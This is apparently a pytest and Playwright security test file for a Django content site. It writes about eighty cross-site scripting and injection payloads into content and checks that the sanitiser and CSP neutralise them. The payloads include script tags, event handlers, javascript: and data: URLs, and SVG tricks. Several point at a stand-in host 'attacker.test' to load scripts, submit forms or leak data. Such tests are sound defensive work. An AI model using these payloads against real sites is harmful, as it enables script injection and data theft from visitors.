"""A hostile or mistaken content file cannot run script or send a reader's browser elsewhere.

Dozens of attack payloads are written into a temporary content folder, each in its own
section (so one broken payload cannot hide the next) and all together in one FAQ answer
(loaded by htmx, which would run scripts in what it swaps in). The output is checked twice:
as HTML, and in Chromium, where no dialog may open, no script may run (each payload sets a
window flag) and no request may leave for another origin. Chromium runs once with the CSP
and once without it, so the sanitiser alone is shown to hold.
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

import pytest
from django.test import Client
from playwright.sync_api import Browser, Page, expect

from rls_iron.content import ALLOWED_ATTRIBUTES, ALLOWED_CLASSES, ALLOWED_TAGS, get_guide
from rls_iron.templatetags.icons import favicon_data_address
from tests.helpers import start_tags, text_of

JS = "window.__pwned=1;alert(1)"
ATTACKER = "http://attacker.test"
B64_SCRIPT = "PHNjcmlwdD53aW5kb3cuX19wd25lZD0xO2FsZXJ0KDEpPC9zY3JpcHQ+"  # <script>JS</script>

PAYLOADS = [
    # script tags in many spellings
    f"<script>{JS}</script>",
    f"<SCRIPT>{JS}</SCRIPT>",
    f"<ScRiPt>{JS}</sCrIpT>",
    f'<script src="{ATTACKER}/x.js"></script>',
    f'<script/src="{ATTACKER}/x.js"></script>',
    f'<script type="module">{JS}</script>',
    f"<scr<script>ipt>{JS}</script>",
    f"<<script>script>{JS}<</script>/script>",
    f"<script\n>{JS}</script\n>",
    f"</p><script>{JS}</script><p>",
    f"<template><script>{JS}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{JS}'>\"></noscript>",
    # event-handler attributes
    f'<img src=x onerror="{JS}">',
    f'<img src="x" ONERROR="{JS}">',
    f"<img/src=x/onerror={JS}>",
    f'<body onload="{JS}">',
    f'<div onmouseover="{JS}">hover</div>',
    f'<a href="#" onclick="{JS}">click</a>',
    f'<p tabindex="0" autofocus onfocus="{JS}">focus</p>',
    f'<input autofocus onfocus="{JS}">',
    f'<details open ontoggle="{JS}"><summary>x</summary></details>',
    f'<video><source onerror="{JS}"></video>',
    f"<audio src=x onerror={JS}>",
    f"<marquee onstart={JS}>x</marquee>",
    f'<span onpointerenter="{JS}">x</span>',
    "<img src=x onerror=&#x77;indow.__pwned=1>",
    # javascript: and data: URLs in Markdown links and images
    f"[click](javascript:{JS})",
    f"[click](JAVASCRIPT:{JS})",
    f"[click](  javascript:{JS})",
    f"[click](java&#x09;script:{JS})",
    f"[click](&#106;avascript:{JS})",
    f"[click](javascript&colon;{JS})",
    f"[click](data:text/html;base64,{B64_SCRIPT})",
    "[click](vbscript:msgbox)",
    f"![picture](javascript:{JS})",
    f"![picture](data:image/svg+xml;base64,{B64_SCRIPT})",
    f"![tracking pixel]({ATTACKER}/pixel.png)",
    f"<javascript:{JS}>",
    f"[reference style][evil]\n\n[evil]: javascript:{JS}",
    # javascript: and data: URLs in HTML
    f'<a href="javascript:{JS}">x</a>',
    f'<a href=" javascript:{JS}">x</a>',
    f'<a href="jav&#x61;script:{JS}">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    f'<a href="data:text/html,<script>{JS}</script>">x</a>',
    # SVG and MathML
    f'<svg onload="{JS}"></svg>',
    f"<svg><script>{JS}</script></svg>",
    f'<svg><a xlink:href="javascript:{JS}"><text y="20">x</text></a></svg>',
    f'<svg><animate onbegin="{JS}" attributeName="x" dur="1s"/></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror='{JS}'>",
    # malformed and entity-encoded tags
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    f'<IMG """><SCRIPT>{JS}</SCRIPT>">',
    f"<img src=`x` onerror={JS}>",
    f"<!--<script>{JS}</script>-->",
    f"<![CDATA[<script>{JS}</script>]]>",
    f"<xmp><script>{JS}</script></xmp>",
    f"<textarea><script>{JS}</script></textarea>",
    # frames, forms, base, meta, objects, links
    f'<iframe src="javascript:{JS}"></iframe>',
    f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
    f'<iframe src="{ATTACKER}/"></iframe>',
    f'<form action="{ATTACKER}/"><input name="q"><button>Send</button></form>',
    f'<button formaction="javascript:{JS}">x</button>',
    f'<base href="{ATTACKER}/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    f'<meta http-equiv="refresh" content="0;url={ATTACKER}/">',
    f'<object data="javascript:{JS}"></object>',
    f'<embed src="javascript:{JS}">',
    f'<link rel="stylesheet" href="{ATTACKER}/x.css">',
    f'<img srcset="{ATTACKER}/a.png 1x">',
    # style-based attacks
    f"<style>body{{background:url({ATTACKER}/s.png)}}</style>",
    f"<style>@import '{ATTACKER}/x.css';</style>",
    f'<p style="background:url({ATTACKER}/s.png)">styled</p>',
    '<div style="position:fixed;inset:0;background:#fff">a fake page over the real one</div>',
    f'<div style="width:expression({JS})">x</div>',
    # htmx attributes and DOM clobbering
    f'<a hx-get="{ATTACKER}/" hx-trigger="load">x</a>',
    f'<div hx-on:htmx:load="{JS}">x</div>',
    f'<div data-hx-get="{ATTACKER}/" data-hx-trigger="load">x</div>',
    '<a id="htmx" name="htmx">clobber</a>',
    '<a href="https://example.org/" target="_blank">tab-nabbing</a>',
]
TITLE_PAYLOAD = f'"><script>{JS}</script><img src=x onerror="{JS}">'
PAYLOAD_FAQ = "payload-answer"


def test_there_are_at_least_fifty_payloads():
    assert len(PAYLOADS) >= 50
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.fixture
def hostile_content(content_folder):
    for number, payload in enumerate(PAYLOADS, start=1):
        content_folder.section(
            f"attack-{number}", 100 + number, f"Payload {number}.\n\n{payload}\n"
        )
    content_folder.faq(PAYLOAD_FAQ, 99, TITLE_PAYLOAD, "\n\n".join(PAYLOADS) + "\n")
    content_folder.section("first-part", 1, "First body text [@beta].\n", title=TITLE_PAYLOAD)
    guide = get_guide()
    assert len(guide.sections) == len(PAYLOADS) + 2  # the guide loaded, payloads and all
    return guide


def assert_only_allowed_html(html: str) -> None:
    for tag, attributes in start_tags(html):
        assert tag in ALLOWED_TAGS, tag
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | (
            {"class"} if tag in ALLOWED_CLASSES else set()
        )
        assert set(attributes) <= allowed, (tag, attributes)
        if "class" in attributes:
            assert set(attributes["class"].split()) <= ALLOWED_CLASSES[tag], (tag, attributes)
        if "href" in attributes:
            scheme = urlsplit(attributes["href"].strip()).scheme.lower()
            assert scheme in {"", "http", "https", "mailto", "tel"}, attributes["href"]


def test_every_payload_comes_out_as_allowed_html_only(hostile_content):
    for section in hostile_content.sections:
        assert_only_allowed_html(section.body_html)
    entry = hostile_content.faq_entry(PAYLOAD_FAQ)
    assert_only_allowed_html(entry.body_html)
    assert "__pwned" not in "".join(
        value or ""
        for _, attributes in start_tags(entry.body_html)
        for value in attributes.values()
    )


# The page chrome itself: exactly these scripts, style sheets and meta tags, nothing more.
OWN_SCRIPTS = {"/static/js/site.js", "/static/js/glossary.js"}  # the overview's
# Pages with guide or answer text add Listen's script.
READING_SCRIPTS = OWN_SCRIPTS | {"/static/js/listen.js"}
# Only the FAQ loads htmx up front (elsewhere site.js fetches it on demand), and faq.js.
FAQ_SCRIPTS = READING_SCRIPTS | {"/static/django_htmx/htmx-2.min.js", "/static/js/faq.js"}
# The page's own widgets, written by our templates, not by content: checked elsewhere.
OWN_WIDGETS = [
    re.compile(r'<section class="feedback".*?</section>', re.DOTALL),
    re.compile(r'<button type="button" class="copy-link".*?</button>', re.DOTALL),
    re.compile(r'<form class="faq-search".*?</form>', re.DOTALL),
]
JSON_LD = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.DOTALL)


def assert_page_has_nothing_hostile(html: str, own_scripts: set[str]) -> None:
    for data in JSON_LD.findall(html):
        assert "<" not in data  # escaped, so it cannot end the data block
    html = JSON_LD.sub("", html)
    for widget in OWN_WIDGETS:
        html = widget.sub("", html)
    forbidden_tags = {
        "base", "embed", "form", "iframe", "img", "input", "math", "object", "style", "svg",
        "template", "textarea", "button", "video", "audio", "source", "details", "noscript",
    }  # fmt: skip
    scripts = []
    for tag, attributes in start_tags(html):
        assert tag not in forbidden_tags, (tag, attributes)
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in {"style", "srcdoc", "formaction", "srcset", "target"}, (tag, name)
            assert not name.startswith(("data-hx", "hx-on")), (tag, name)
            if name.startswith("hx-"):
                assert name in {"hx-get", "hx-target", "hx-swap", "hx-select"}
                assert "attacker" not in value
            if name in {"href", "src", "action"} and not is_own_icon(tag, attributes):
                scheme = urlsplit((value or "").strip()).scheme.lower()
                assert scheme in {"", "http", "https", "mailto", "tel"}, (tag, value)
                assert "attacker.test" not in value, (tag, value)
        if tag == "script":
            scripts.append(attributes.get("src"))
        if tag == "meta":
            assert "http-equiv" not in attributes
        if tag == "link" and attributes.get("rel") in ("canonical", "alternate"):
            assert attributes["href"].startswith("http://testserver/")
        elif tag == "link" and attributes.get("rel") == "manifest":
            assert attributes["href"] == "/manifest.webmanifest"
        elif tag == "link" and attributes.get("rel") == "icon":
            assert is_own_icon(tag, attributes), attributes  # the one data: address allowed
        elif tag == "link":
            assert attributes["href"].startswith("/static/")
    assert set(scripts) == own_scripts
    assert len(scripts) == len(own_scripts)
    assert f"<script>{JS}</script>" not in html


def is_own_icon(tag: str, attributes: dict) -> bool:
    """The site's icon, written into the page as a data: address (rls_iron/templatetags/icons)."""
    own = tag == "link" and attributes.get("rel") == "icon"
    return own and attributes.get("href") == favicon_data_address()


@pytest.mark.parametrize(
    ("url", "headers", "scripts"),
    [
        ("/", {}, OWN_SCRIPTS),
        (f"/faq/{PAYLOAD_FAQ}/", {}, READING_SCRIPTS),
        ("/faq/", {}, FAQ_SCRIPTS),
    ],
)
def test_pages_built_from_hostile_content_hold_nothing_hostile(
    hostile_content, url, headers, scripts
):
    html = Client().get(url, headers=headers).content.decode()
    assert_page_has_nothing_hostile(html, scripts)


def test_the_htmx_fragment_of_a_hostile_answer_holds_nothing_hostile(hostile_content):
    response = Client().get(f"/faq/{PAYLOAD_FAQ}/", headers={"HX-Request": "true"})
    html = response.content.decode()
    assert "<html" not in html
    for tag, attributes in start_tags(html):
        assert tag != "script"
        assert not any(name.startswith("on") or name == "style" for name in attributes)


@pytest.mark.parametrize("url", ["/", f"/faq/{PAYLOAD_FAQ}/"])
def test_front_matter_payloads_are_shown_as_plain_text(hostile_content, url):
    html = Client().get(url).content.decode()
    assert TITLE_PAYLOAD in text_of(html)


# --------------------------------------------------------------------------- Chromium


TRAP_SCRIPT = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', (event) => {
  window.__violations.push(event.violatedDirective + ' ' + event.blockedURI);
});
"""


def visit_like_a_reader(page: Page, base: str) -> None:
    """The guide, the FAQ with the hostile answer opened by htmx, and its own page."""
    page.goto(base + "/")
    page.mouse.move(200, 300)
    page.mouse.wheel(0, 20000)
    page.goto(base + "/faq/")
    question = page.locator(f"#question-{PAYLOAD_FAQ}")
    question.click()
    expect(page.locator(f"#answer-{PAYLOAD_FAQ}")).to_have_attribute("data-loaded", "1")
    page.locator(f"#answer-{PAYLOAD_FAQ}").hover()
    page.goto(f"{base}/faq/{PAYLOAD_FAQ}/")
    page.wait_for_timeout(500)  # a meta refresh or a late event handler would act by now


@pytest.mark.browser
@pytest.mark.parametrize("bypass_csp", [False, True], ids=["with CSP", "sanitiser alone"])
def test_no_payload_runs_script_opens_a_dialog_or_sends_a_request(
    hostile_content, live_server, browser: Browser, bypass_csp
):
    context = browser.new_context(bypass_csp=bypass_csp)
    page = context.new_page()
    dialogs: list[str] = []
    foreign_requests: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on(
        "request",
        lambda request: (
            request.url.startswith(live_server.url) or foreign_requests.append(request.url)
        ),
    )
    # Nothing may leave the machine even if the test fails.
    context.route(
        "**/*",
        lambda route: (
            route.continue_() if route.request.url.startswith(live_server.url) else route.abort()
        ),
    )
    context.add_init_script(TRAP_SCRIPT)
    try:
        visit_like_a_reader(page, live_server.url)
        assert page.evaluate("window.__pwned") is None
        assert dialogs == []
        assert foreign_requests == []
        assert page.url == f"{live_server.url}/faq/{PAYLOAD_FAQ}/"
        # Nothing even tried: the CSP never had to block anything.
        assert page.evaluate("window.__violations") == []
        hostile_nodes = page.evaluate(
            """() => [...document.querySelectorAll('main *')].filter((node) =>
                 !node.closest('section.feedback, form.faq-search') &&  // the site's own forms
                 ['SCRIPT', 'IFRAME', 'IMG', 'SVG', 'STYLE', 'FORM', 'OBJECT', 'EMBED', 'BASE']
                   .includes(node.tagName.toUpperCase())
                 || [...node.attributes].some((a) => a.name.startsWith('on') || a.name === 'style'
                      || /^\\s*(javascript|data|vbscript):/i.test(a.value))
               ).map((node) => node.outerHTML.slice(0, 80))"""
        )
        assert hostile_nodes == []
    finally:
        context.close()
